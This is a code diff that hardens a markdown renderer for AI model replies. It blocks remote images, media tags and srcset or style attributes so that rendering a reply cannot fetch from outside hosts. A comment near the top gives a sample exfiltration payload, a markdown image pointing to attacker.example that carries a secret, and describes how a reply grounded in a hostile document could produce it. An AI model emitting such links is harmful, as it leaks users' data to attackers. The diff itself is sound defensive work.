@@ -3,6 +3,11 @@
  * blocks highlighted by highlight.js for a few common languages, and the result sanitized by
  * DOMPurify, because model output is untrusted text that may contain HTML, scripts or event
  * handlers. Links open in a new tab without access to this page.
+ *
+ * Nothing in a reply may make the browser fetch from elsewhere on its own: a reply grounded in
+ * a hostile document could write `![x](https://attacker.example/?d=SECRET)` and send data out
+ * the moment it renders. Images are kept only as inline `data:` images; any other image becomes
+ * a short text in its place, and media, `srcset` and style attributes are removed.
  */
 import DOMPurify from 'dompurify';
 import hljs from 'highlight.js/lib/core';
@@ -59,10 +64,24 @@ const markdown = new Marked({
   },
 });
 
+/** An inline image is part of the reply itself; any other source is a request to someone. */
+const INLINE_IMAGE = /^data:image\//i;
+
+/** The text shown where a reply wanted an image from elsewhere. */
+function blockedImageLabel(alt: string): string {
+  const name = alt.trim();
+  return name ? `[image: ${name} — blocked remote image]` : '[image — blocked remote image]';
+}
+
 DOMPurify.addHook('afterSanitizeAttributes', (node) => {
   if (node.tagName === 'A' && node.hasAttribute('href')) {
     node.setAttribute('target', '_blank');
     node.setAttribute('rel', 'noopener noreferrer nofollow');
+  }
+  // Sanitizing happens in an inert document, so this image has not been requested yet.
+  if (node.tagName === 'IMG' && !INLINE_IMAGE.test(node.getAttribute('src') ?? '')) {
+    const label = blockedImageLabel(node.getAttribute('alt') ?? '');
+    node.replaceWith(node.ownerDocument.createTextNode(label));
   }
 });
 
@@ -71,7 +90,24 @@ export function renderMarkdown(source: string): string {
   const html = markdown.parse(source, { async: false });
   return DOMPurify.sanitize(html, {
     USE_PROFILES: { html: true },
-    // Forms and embedded content have no place in an answer, even when sanitized.
-    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe'],
+    // Forms and embedded content have no place in an answer, even when sanitized; media would
+    // load from wherever the reply points.
+    FORBID_TAGS: [
+      'style',
+      'form',
+      'input',
+      'button',
+      'textarea',
+      'select',
+      'iframe',
+      'audio',
+      'video',
+      'source',
+      'picture',
+      'track',
+    ],
+    // Alternative or background image sources, and inline styles (which the page's
+    // Content-Security-Policy refuses anyway).
+    FORBID_ATTR: ['srcset', 'background', 'poster', 'style'],
   });
 }
